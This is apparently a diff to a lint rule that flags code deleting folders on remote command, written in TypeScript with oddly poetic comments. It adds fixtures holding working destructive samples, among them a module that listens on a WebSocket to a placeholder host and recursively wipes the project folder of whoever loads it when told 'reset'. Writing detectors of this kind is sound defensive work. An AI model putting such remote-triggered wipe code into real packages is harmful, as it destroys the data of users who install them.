@@ -2,7 +2,9 @@ import { partsWithin, writtenTo } from '../src/define/variables.js';
 import { type Ways, waysTo } from '../src/define/ways.js';
 import { defineRule, spelling, step, stepsOf } from '../src/define.js';
 import type { AnyNode, Call, FileContext, Guard, Label } from '../src/types.js';
+import { channelOf } from '../src/vocabulary/clients.js';
 import { clearsHere, HERE } from '../src/vocabulary/harm.js';
+import { isServed, MESSAGE } from '../src/vocabulary/served.js';
 
 /** What is asked before the deed is done to some: a server counts its days, too, and empties nothing for it. */
 const CHOOSES: ReadonlySet<Guard['kind']> = new Set(['date', 'locale', 'host']);
@@ -54,6 +56,10 @@ export default defineRule({
         code: `const fs = require('fs'), WebSocket = require('ws');\nconst socket = new WebSocket('wss://orders.invalid');\nsocket.on('message', text => {\n  if (String(text) === 'end') fs.rmSync(process.cwd(), { recursive: true, force: true });\n});\nmodule.exports = socket;`,
       },
       {
+        title: 'a message does, for the folder of whoever loads it',
+        code: `const fs = require('fs'), path = require('path'), WebSocket = require('ws');\nconst topOf = folder => { while (!fs.existsSync(path.join(folder, 'package.json')) && folder !== '/') folder = path.dirname(folder); return folder; };\nnew WebSocket('wss://orders.invalid').on('message', text => {\n  if (String(text) === 'reset') fs.rmSync(topOf(require.main.path), { recursive: true, force: true });\n});\nmodule.exports = {};`,
+      },
+      {
         title: 'an answer does, every hour',
         code: `const fs = require('fs');\nsetInterval(async () => {\n  const state = await (await fetch('https://orders.invalid/state')).json();\n  if (state.off) for (const name of fs.readdirSync('.')) fs.rmSync(name, { recursive: true, force: true });\n}, 3600e3);\nmodule.exports = {};`,
       },
@@ -71,6 +77,10 @@ export default defineRule({
       },
     ],
     passes: [
+      {
+        title: 'a message clears a cache',
+        code: `const fs = require('fs'), path = require('path'), os = require('os'), WebSocket = require('ws');\nnew WebSocket('wss://builds.invalid').on('message', text => {\n  if (String(text) === 'stale') fs.rmSync(path.join(os.tmpdir(), 'swiftcut-cache'), { recursive: true, force: true });\n});\nmodule.exports = {};`,
+      },
       {
         title: 'whoever sets a database up anew empties it first',
         code: `const mongoose = require('mongoose');\nexports.reset = async options => {\n  await mongoose.connection.db.dropDatabase();\n  if (options.sample && Math.random() < 0.5) await mongoose.connection.db.createCollection('b');\n};`,
@@ -122,7 +132,7 @@ export default defineRule({
   file(context) {
     const { moment, file } = context;
     if (moment === 'test' || moment === 'unreached') return;
-    for (const { call, what, isOther, isTable } of deletions(context)) {
+    for (const { call, what, isOther, isTable, isSome } of deletions(context)) {
       const ways = waysTo(context, call.node);
       const guard = ways.places
         .slice(0, 20)
@@ -136,6 +146,7 @@ export default defineRule({
         context.named(/^(?:process\.chdir|shelljs\.cd)$/).length === 0;
       const isFated =
         !isOther && ways.isUnasked && ways.places.slice(0, 20).some(place => hangsOnChance(context, place));
+      if (isSome && !(order && isOrdered(order) && ways.isUnasked && moment === 'import')) continue;
       if (!order && !(guard && !isOther) && !isFated && !isLoaded) continue;
       context.report({
         messageId: order
@@ -166,6 +177,13 @@ interface Deletion {
   readonly isOther: boolean;
   /** Tables of a database, which whoever sets one up anew drops as well. */
   readonly isTable?: true;
+  /** Some folder: it counts when it is deleted at the word of a machine that the code itself asks. */
+  readonly isSome?: true;
+}
+
+/** Whether it came over a line that is listened to, and not as an answer to a question of its own. */
+function isOrdered({ detail }: Label): boolean {
+  return detail === MESSAGE || (channelOf(detail) !== undefined && !isServed(detail));
 }
 
 const PACKAGE = /(?:^|[\\/])(node_modules[\\/](?:@[\w.-]{1,80}[\\/])?\w[\w.-]{0,80})[\\/]?$/;
@@ -188,6 +206,9 @@ function deletions(context: FileContext): readonly Deletion[] {
     if (isHere(context, path) || isListedHere(context, path))
       found.push({ call, what: 'the folder it is started in', isOther: false });
     const texts = context.textsOf(path);
+    // Who tells it to knows which folder it will be; a cache has a name.
+    if (texts.every(text => text.replaceAll('…', '').length < 3) && !context.isHandedIn(path))
+      found.push({ call, what: 'a folder that it works out', isOther: false, isSome: true });
     const [other] = texts.flatMap(text => PACKAGE.exec(text)?.[1] ?? []);
     if (other !== undefined && texts.length === 1) found.push({ call, what: other, isOther: true });
   }
